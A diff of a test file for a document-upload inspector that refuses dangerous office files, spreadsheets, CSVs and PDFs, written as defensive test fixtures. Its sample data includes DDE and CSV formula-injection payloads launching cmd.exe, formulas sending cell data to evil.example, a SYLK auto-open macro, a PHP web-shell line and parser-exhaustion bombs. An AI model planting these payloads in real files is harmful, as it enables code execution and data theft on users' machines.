@@ -1,7 +1,7 @@
 import { deflateSync } from "node:zlib";
 import { describe, expect, it } from "vitest";
 import type { FileKind } from "../../../src/forms/files";
-import type { DangerCode } from "../../../src/intake/inspection/danger";
+import type { FindingCode } from "../../../src/intake/inspection/finding";
 import { inspect } from "../../../src/intake/inspection/inspect";
 import {
   compoundFile,
@@ -14,6 +14,7 @@ import {
   relationsXml,
   sheetXml,
   typesXml,
+  wordXml,
   xlsxParts,
   xlsxWith,
 } from "../office-samples";
@@ -21,7 +22,7 @@ import { deflated, objectStream, type PdfObjects, pageObjects, pdfFile, pdfWith 
 import { followedBy, jpeg, pdf } from "../samples";
 import { zip } from "../zip-samples";
 
-type Attack = readonly [name: string, danger: DangerCode, bytes: Uint8Array];
+type Attack = readonly [name: string, code: FindingCode, bytes: Uint8Array];
 
 const text = (content: string) => new TextEncoder().encode(content);
 
@@ -184,7 +185,11 @@ const documents: readonly Attack[] = [
     "macro",
     docxWith(related(names.vbaRelation.replace("vba", "v&#98;&#x61;"), "a.jpeg")),
   ],
-  ["macros that nothing names", "embedded", docxWith({ parts: { "word/media/photo.jpeg": compoundFile } })],
+  [
+    "macros that nothing names",
+    "embedded",
+    docxWith({ parts: { "word/media/photo.jpeg": compoundFile }, defaults: { jpeg: "image/jpeg" } }),
+  ],
   ["the type of a document with macros", "macro", docxWith({ mainType: names.macroDocumentType })],
   ["an ActiveX control", "script", docxWith(related("control", "activeX/activeX1.xml"))],
   ["an OLE object", "embedded", docxWith(related("oleObject", "embeddings/oleObject1.bin"))],
@@ -216,37 +221,67 @@ const documents: readonly Attack[] = [
   ["an add-in", "script", docxWith(related(names.webExtensionRelation, "webextension1.xml"))],
   [
     "DDE in a field",
-    "program",
+    "field",
     docxWith({ content: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"') }),
   ],
-  ["DDE split over runs", "program", docxWith({ content: field("D", "D", "E ", '"cmd"') })],
-  ["DDE in a simple field", "program", docxWith({ content: '<w:fldSimple w:instr="DDE cmd x"><w:r/></w:fldSimple>' })],
+  ["DDE split over runs", "field", docxWith({ content: field("D", "D", "E ", '"cmd"') })],
+  ["DDE in a simple field", "field", docxWith({ content: '<w:fldSimple w:instr="DDE cmd x"><w:r/></w:fldSimple>' })],
   [
     "DDE behind an attribute with a bracket",
-    "program",
+    "field",
     docxWith({ content: '<w:fldSimple w:dirty="a>b" w:instr="&#68;DE cmd"/>' }),
   ],
-  ["DDE within another field", "program", docxWith({ content: nested('IF "a" = "b" ', "DDE cmd x") })],
-  ["DDE whose name a field makes", "program", docxWith({ content: nested("", "QUOTE 68 68 69") })],
-  ["DDE with a comment in it", "program", docxWith({ content: field("DD<!-- x < y -->E cmd") })],
-  ["DDE in CDATA", "program", docxWith({ content: field("<![CDATA[DDE cmd]]>") })],
+  ["DDE within another field", "field", docxWith({ content: nested('IF "a" = "b" ', "DDE cmd x") })],
+  ["DDE whose name a field makes", "field", docxWith({ content: nested("", "QUOTE 68 68 69") })],
+  [
+    "DDE in no field",
+    "field",
+    docxWith({ content: "<w:instrText>PAGE</w:instrText><w:instrText>DDE cmd</w:instrText>" }),
+  ],
+  [
+    "DDE behind the result of a field",
+    "field",
+    docxWith({ content: field("PAGE").replace("<w:t>1</w:t>", "<w:instrText>DDE cmd</w:instrText>") }),
+  ],
+  [
+    "DDE in a field with two marks in one",
+    "unreadable",
+    docxWith({
+      content: field("DDE cmd").replace("<w:fldChar ", '<w:fldChar xmlns:a="urn:a" a:fldCharType="end" '),
+    }),
+  ],
+  ["DDE with a comment in it", "field", docxWith({ content: field("DD<!-- x < y -->E cmd") })],
+  ["DDE in CDATA", "field", docxWith({ content: field("<![CDATA[DDE cmd]]>") })],
   [
     "DDE in UTF-16",
-    "program",
-    docxWith({ parts: { "word/footer1.xml": utf16(`<w:ftr>${field("DDE cmd x")}</w:ftr>`) } }),
+    "field",
+    docxWith({
+      parts: { "word/footer1.xml": utf16(wordXml("ftr", field("DDE cmd x"))) },
+      overrides: { "/word/footer1.xml": names.footerType },
+    }),
   ],
   [
     "DDE in a header of another name",
-    "program",
-    docxWith({ parts: { "word/media/a.png": `<w:hdr>${field("DDE cmd")}</w:hdr>` } }),
+    "field",
+    docxWith({
+      parts: { "word/media/a.png": wordXml("hdr", field("DDE cmd")) },
+      overrides: { "/word/media/a.png": names.footerType },
+    }),
   ],
+  ["DDE in footnotes", "field", docxWith({ parts: { "word/footnotes.xml": wordXml("footnotes", field("DDE cmd")) } })],
+  ["a picture in a drawing of old", "remote", docxWith({ content: '<w:a src="http://evil.example/a.png"/>' })],
+  ["a picture in the network", "remote", docxWith({ content: '<w:a src="\\\\evil\\a.png"/>' })],
+  ["a film from elsewhere", "unreadable", docxWith({ content: '<w:a embeddedHtml="&lt;iframe/>"/>' })],
+  ["unknown elements that count", "unreadable", docxWith({ content: '<w:a w:ProcessContent="x:y"/>' })],
+  ["a letter to many that asks a database", "remote", docxWith({ content: "<w:mailMerge/>" })],
+  ["a macro for a field of a form", "macro", docxWith({ content: '<w:entryMacro w:val="AutoOpen"/>' })],
   [
-    "DDE in footnotes",
-    "program",
-    docxWith({ parts: { "word/footnotes.xml": `<w:footnotes>${field("DDE cmd")}</w:footnotes>` } }),
+    "a document within data that a text is bound to",
+    "embedded",
+    docxWith({ parts: { "customXml/item1.xml": "<a> &lt;?xml version='1.0'?>&lt;pkg:package/></a>" } }),
   ],
-  ["another file by a field", "program", docxWith({ content: field('INCLUDETEXT "https://evil.example/a"') })],
-  ["a database by a field", "program", docxWith({ content: field('DATABASE \\d "C:\\a.mdb"') })],
+  ["another file by a field", "field", docxWith({ content: field('INCLUDETEXT "https://evil.example/a"') })],
+  ["a database by a field", "field", docxWith({ content: field('DATABASE \\d "C:\\a.mdb"') })],
   [
     "a document type",
     "unreadable",
@@ -263,18 +298,23 @@ const documents: readonly Attack[] = [
 
 function settingsOf(type: string, target: string): Extras {
   const settings = {
-    "word/settings.xml": "<w:settings/>",
+    "word/settings.xml": wordXml("settings", ""),
     "word/_rels/settings.xml.rels": relationsXml([{ type, target, external: true }]),
   };
-  return { ...related("settings", "settings.xml"), parts: settings };
+  return {
+    ...related("settings", "settings.xml"),
+    overrides: { "/word/settings.xml": names.settingsType },
+    parts: settings,
+  };
 }
 
 function chartOf(table: Uint8Array): Uint8Array {
   return docxWith({
     ...related("chart", "charts/chart1.xml"),
     overrides: { "/word/charts/chart1.xml": names.chartType },
+    defaults: { xlsx: names.workbookType },
     parts: {
-      "word/charts/chart1.xml": "<c:chartSpace/>",
+      "word/charts/chart1.xml": "<chartSpace/>",
       "word/charts/_rels/chart1.xml.rels": relationsXml([{ type: "package", target: "../embeddings/Table.xlsx" }]),
       "word/embeddings/Table.xlsx": table,
     },
@@ -288,7 +328,7 @@ function nested(start: string, inner: string): string {
 }
 
 function utf16(xml: string): Uint8Array {
-  return new Uint8Array(Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${xml}`, "utf16le"));
+  return new Uint8Array(Buffer.from(`\ufeff${xml.replace("UTF-8", "UTF-16")}`, "utf16le"));
 }
 
 const workbooks: readonly Attack[] = [
@@ -320,39 +360,42 @@ const workbooks: readonly Attack[] = [
   ],
   [
     "DDE as a link",
-    "program",
+    "remote",
     xlsxWith({
       parts: { "xl/externalLinks/externalLink1.xml": ddeLink },
       overrides: { "/xl/externalLinks/externalLink1.xml": names.externalLinkType },
     }),
   ],
-  ["DDE in a formula", "program", xlsxWith({ content: formulaRow("cmd|'/c calc'!A0") })],
-  ["DDE in references to characters", "program", xlsxWith({ content: formulaRow("cmd&#124;&apos;/c calc&apos;!A0") })],
-  ["DDE in CDATA", "program", xlsxWith({ content: formulaRow("<![CDATA[cmd|'/c calc'!A0]]>") })],
-  ["DDE behind an addition", "program", xlsxWith({ content: formulaRow("SUM(1,1)*cmd|'/c calc'!A0") })],
-  ["DDE in a rule for input", "program", xlsxWith({ content: "<x:formula1>cmd|'/c calc'!A0</x:formula1>" })],
+  ["DDE in a formula", "formula", xlsxWith({ content: formulaRow("cmd|'/c calc'!A0") })],
+  ["DDE in references to characters", "formula", xlsxWith({ content: formulaRow("cmd&#124;&apos;/c calc&apos;!A0") })],
+  ["DDE in CDATA", "formula", xlsxWith({ content: formulaRow("<![CDATA[cmd|'/c calc'!A0]]>") })],
+  ["DDE behind an addition", "formula", xlsxWith({ content: formulaRow("SUM(1,1)*cmd|'/c calc'!A0") })],
+  ["DDE in a rule for input", "formula", xlsxWith({ content: "<x:formula1>cmd|'/c calc'!A0</x:formula1>" })],
   [
     "DDE in a name",
-    "program",
+    "formula",
     xlsxWith({ parts: { "xl/workbook2.xml": "<definedName name='a'>cmd|'/c x'!A</definedName>" } }),
   ],
   [
     "DDE behind a megabyte",
-    "program",
+    "formula",
     xlsxWith({ content: `<row><c><v>${"1".repeat(1_200_000)}</v></c></row>${formulaRow("cmd|'/c calc'!A0")}` }),
   ],
   [
     "a formula that fetches",
-    "program",
+    "formula",
     xlsxWith({ content: formulaRow('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)') }),
   ],
-  ["a formula that starts a server", "program", xlsxWith({ content: formulaRow('RTD("evil.server",,"a")') })],
+  ["a formula that starts a server", "formula", xlsxWith({ content: formulaRow('RTD("evil.server",,"a")') })],
   ["another workbook on a foreign host", "remote", externalWorkbook("https://evil.example/a.xlsx")],
   ["another workbook in the network", "remote", externalWorkbook("file:///\\\\evil\\share\\a.xlsx")],
   [
     "data that is fetched on opening",
     "remote",
-    xlsxWith({ parts: { "xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>' } }),
+    xlsxWith({
+      parts: { "xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>' },
+      overrides: { "/xl/connections.xml": names.connectionsType },
+    }),
   ],
   ["an OLE object in a sheet", "embedded", sheetWith("oleObject", "../embeddings/oleObject1.bin")],
   ["an ActiveX control in a sheet", "script", sheetWith("control", "../activeX/activeX1.xml")],
@@ -374,16 +417,16 @@ function sheetWith(type: string, target: string): Uint8Array {
 }
 
 const tables: readonly Attack[] = [
-  ["DDE", "program", text("nama;harga\r\n=cmd|' /C calc'!A0;5\r\n")],
-  ["DDE behind a plus", "program", text("nama,harga\n+cmd|' /C calc'!A0,5\n")],
-  ["DDE behind a minus", "program", text("nama,harga\n-cmd|'/C calc'!A0,5\n")],
-  ["DDE behind a function", "program", text("a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n")],
-  ["DDE in quotes", "program", text('a,b\n1,"=1+cmd|\' /C ""calc""\'!A0"\n')],
-  ["DDE without quotes", "program", text("a,b\n1,=calc|a!b\n")],
-  ["DDE behind blanks", "program", text("a\tb\n1\t  =MSEXCEL|'\\..\\cmd.exe'!''\n")],
-  ["a formula that fetches", "program", text('a,b\n=WEBSERVICE("https://evil.example/"&A1),1\n')],
-  ["a formula that imports", "program", text('a;b\n=IMPORTXML("https://evil.example";"//a");1\n')],
-  ["a link that takes cells along", "program", text('a;b\n=HYPERLINK("https://evil.example/?"&A1;"tekan");1\n')],
+  ["DDE", "formula", text("nama;harga\r\n=cmd|' /C calc'!A0;5\r\n")],
+  ["DDE behind a plus", "formula", text("nama,harga\n+cmd|' /C calc'!A0,5\n")],
+  ["DDE behind a minus", "formula", text("nama,harga\n-cmd|'/C calc'!A0,5\n")],
+  ["DDE behind a function", "formula", text("a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n")],
+  ["DDE in quotes", "formula", text('a,b\n1,"=1+cmd|\' /C ""calc""\'!A0"\n')],
+  ["DDE without quotes", "formula", text("a,b\n1,=calc|a!b\n")],
+  ["DDE behind blanks", "formula", text("a\tb\n1\t  =MSEXCEL|'\\..\\cmd.exe'!''\n")],
+  ["a formula that fetches", "formula", text('a,b\n=WEBSERVICE("https://evil.example/"&A1),1\n')],
+  ["a formula that imports", "formula", text('a;b\n=IMPORTXML("https://evil.example";"//a");1\n')],
+  ["a link that takes cells along", "formula", text('a;b\n=HYPERLINK("https://evil.example/?"&A1;"tekan");1\n')],
   ["SYLK with a macro", "macro", text('ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")\nE\n')],
   ["a page", "foreign", text("a;b\n<script>alert(1)</script>")],
   ["a program", "foreign", text("<?php system($_GET[0]);")],
@@ -403,8 +446,8 @@ describe.each<readonly [kind: FileKind, attacks: readonly Attack[]]>([
     ],
   ],
 ])("a %s is refused that has or is", (kind, attacks) => {
-  it.each(attacks)("%s", async (_, danger, bytes) => {
-    expect(await inspect(bytes)).toEqual({ kind, danger });
+  it.each(attacks)("%s", async (_, code, bytes) => {
+    expect(await inspect(bytes)).toEqual({ kind, finding: expect.objectContaining({ code }) });
   });
 });
 
@@ -418,6 +461,7 @@ describe("what is no document at all", () => {
     ],
     ["an archive with an entry within another", zip(dialog, { within: "inner" })],
     ["an archive with two parts of one name", zip({ ...dialog, "XL/workbook.xml": "<a/>" })],
+    ["an archive whose entries have a second name", zip(dialog, { extraField: Buffer.from("up\x05\0\x01aaaa") })],
     ["an encrypted archive", zip(dialog, { flags: 1 })],
     [
       "an archive of 5,000 entries",
@@ -431,14 +475,14 @@ describe("what is no document at all", () => {
     ],
     ["a letter that calls itself a table", text("{\\rtf1\\object\\objdata 01}")],
   ])("%s", async (_, bytes) => {
-    expect(await inspect(bytes)).toEqual({ kind: null, danger: null });
+    expect(await inspect(bytes)).toEqual({ kind: null, finding: null });
   });
 
   it("is a types part with a document type", async () => {
     const types = `<!DOCTYPE a [<!ENTITY b "c">]>${typesXml({})}`;
     expect(await inspect(zip({ ...dialog, "[Content_Types].xml": types }))).toEqual({
       kind: null,
-      danger: "unreadable",
+      finding: expect.objectContaining({ code: "unreadable" }),
     });
   });
 });
@@ -475,13 +519,18 @@ describe("work without end is refused", () => {
     ["object streams that never end", () => followedBy(pdf, "1 0 obj<</First 1/N 0>>stream\n".repeat(50_000))],
     ["tags of 80,000 formulas that never end", () => xlsxWith({ content: "<f ".repeat(80_000) })],
     ["tags of formulas whose quotes never end", () => xlsxWith({ content: `<f "'`.repeat(50_000) })],
-    ["a million empty formulas", () => xlsxWith({ parts: manyParts(10, "<f/>".repeat(100_000)) })],
+    ["four million empty formulas", () => xlsxWith({ parts: manyParts(40, "<f/>".repeat(100_000)) })],
+    ["100,000 elements within each other", () => docxWith({ parts: { "word/a.xml": "<a>".repeat(100_000) } })],
+    [
+      "comments that never close",
+      () => zip(docxParts({ parts: { "word/a.xml": `<a>${"<!--".repeat(1_000_000)}` } }), { stored: true }),
+    ],
     ["300,000 types", () => zip({ ...docxParts(), [typesName]: `<Types>${"<Default/>".repeat(300_000)}</Types>` })],
   ])(
     "%s",
     async (_, make) => {
-      const { danger } = await inspect(make());
-      expect(["too-complex", "unreadable"]).toContain(danger);
+      const { finding } = await inspect(make());
+      expect(["too-complex", "unreadable"]).toContain(finding?.code);
     },
     20_000,
   );
@@ -490,16 +539,11 @@ describe("work without end is refused", () => {
     ["blanks and comments without end", () => followedBy(pdf, `8 0 obj ${" %%".repeat(1_000_000)}`)],
     ["names within names", () => followedBy(pdf, `8 0 obj /${"#2f".repeat(1_000_000)}`)],
     ["quotes without end", () => text('"'.repeat(4_000_000))],
-    ["formulas without end", () => text(";=A|".repeat(1_000_000))],
+    ["formulas without end", () => text(";=A+".repeat(1_000_000))],
     ["actions within each other", () => followedBy(pdf, `8 0 obj<<${"/AA<<".repeat(40_000)}`)],
     [
       "actions within each other, of both kinds",
       () => followedBy(pdf, `8 0 obj<<${"/OpenAction<</AA<<".repeat(20_000)}`),
-    ],
-    ["100,000 elements within each other", () => docxWith({ parts: { "word/_rels/a.rels": "<a>".repeat(100_000) } })],
-    [
-      "comments that never close",
-      () => zip(docxParts({ parts: { "word/a.xml": `<a>${"<!--".repeat(1_000_000)}` } }), { stored: true }),
     ],
     [
       "100,000 small objects of an honest file",
@@ -512,14 +556,14 @@ describe("work without end is refused", () => {
   ])(
     "%s are read through in a single pass",
     async (_, make) => {
-      expect((await inspect(make())).danger).toBeNull();
+      expect((await inspect(make())).finding).toBeNull();
     },
     20_000,
   );
 });
 
 it("a table of long words in formulas is read through in a single pass", { timeout: 8_000 }, async () => {
-  expect((await inspect(text(`=${"a".repeat(999)}\n`.repeat(12_000)))).danger).toBeNull();
+  expect((await inspect(text(`=${"a".repeat(999)}\n`.repeat(12_000)))).finding).toBeNull();
 });
 
 function manyParts(count: number, content: string) {
